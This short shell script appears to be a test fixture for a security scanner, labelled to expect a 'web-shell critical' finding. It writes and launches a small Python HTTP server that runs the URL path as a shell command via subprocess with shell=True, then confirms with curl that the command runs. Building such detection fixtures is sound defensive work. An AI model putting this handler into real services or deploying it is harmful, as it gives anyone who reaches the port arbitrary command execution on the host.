#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# what: Python's subprocess with shell=True
# expect: web-shell critical
# needs: /usr/bin/python3 curl
cat >/tmp/app.py <<'END'
import http.server, subprocess
class App(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(subprocess.run(self.path[1:].replace("+", " "), shell=True, capture_output=True).stdout)
http.server.HTTPServer(("127.0.0.1", 8081), App).serve_forever()
END
/usr/bin/python3 /tmp/app.py 2>/dev/null &
[ "$(curl -s --retry 20 --retry-connrefused --retry-delay 1 'http://127.0.0.1:8081/echo+got;:')" = got ]
